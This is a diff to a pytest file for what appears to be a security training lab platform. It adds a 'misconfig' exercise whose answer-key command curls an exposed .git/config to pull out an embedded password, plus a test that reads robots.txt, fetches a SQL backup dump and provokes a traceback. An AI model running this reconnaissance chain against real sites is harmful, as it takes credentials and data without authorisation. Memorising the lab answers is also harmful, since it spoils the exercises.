@@ -9,6 +9,7 @@
 
 from __future__ import annotations
 
+import re
 import shlex
 import time
 from dataclasses import dataclass
@@ -19,7 +20,7 @@ pytestmark = pytest.mark.docker
 
 FLAG = "FLAG{check-tasks}"
 AUTH_LOG = "/var/log/auth.log"
-INVOICES = PREVIEW = PORTAL = "http://target:8080"
+INVOICES = PREVIEW = PORTAL = SHOP = "http://target:8080"
 SIGN_IN = (
     "curl -sf -c jar -b jar -o /dev/null --data-urlencode username=alice "
     f"--data-urlencode password=wonderland {INVOICES}/login"
@@ -186,6 +187,14 @@ SOLUTIONS: dict[str, list[Solution]] = {
             "print(*[d['TargetUserName'] for i, d in E if i == '4720'])\" > ~/answer-new-user.txt",
         ),
     ],
+    "misconfig": [
+        Solution(
+            "git-password",
+            "/home/trainee/answer-git-password.txt",
+            f"curl -s {SHOP}/.git/config | grep -o 'url = https://[^@]*' | cut -d: -f3 "
+            "> ~/answer-git-password.txt",
+        )
+    ],
     "log-triage": [
         Solution(
             "attacker-ip", "/home/trainee/answer-ip.txt", f"{TOP_FAILING_IP} > ~/answer-ip.txt"
@@ -206,6 +215,7 @@ READY = {
     "broken-access": f"curl -sf -o /dev/null {INVOICES}/login",
     "ssrf": f"curl -sf -o /dev/null {PREVIEW}/",
     "weak-sessions": f"curl -sf -o /dev/null {PORTAL}/login",
+    "misconfig": f"curl -sf -o /dev/null {SHOP}/",
 }
 
 
@@ -369,3 +379,17 @@ def test_weak_sessions_cookie_is_forged_for_the_flag(lab_session, lab_exec, ship
         f'curl -s -b "session=$cookie" {PORTAL}/admin'
     )
     assert FLAG in lab_exec(key, "workstation", forged)[1]
+
+
+def test_misconfig_backup_and_headers(lab_session, lab_exec, shipped_labs):
+    spec = shipped_labs["misconfig"]
+    key = lab_session(spec, FLAG).session_key
+    wait_ready(lab_exec, key, "misconfig", "workstation")
+    headers = lab_exec(key, "workstation", f"curl -sI {SHOP}/")[1]
+    assert "Server: Apache/2.4.49" in headers and "Content-Security-Policy" not in headers
+    robots = lab_exec(key, "workstation", f"curl -s {SHOP}/robots.txt")[1]
+    assert "/backup/" in robots
+    listing = lab_exec(key, "workstation", f"curl -s {SHOP}/backup/")[1]
+    dump = re.search(r'href="([^"]+\.sql)"', listing).group(1)
+    assert FLAG in lab_exec(key, "workstation", f"curl -s {SHOP}/backup/{dump}")[1]
+    assert "Traceback" in lab_exec(key, "workstation", f"curl -s {SHOP}/search")[1]
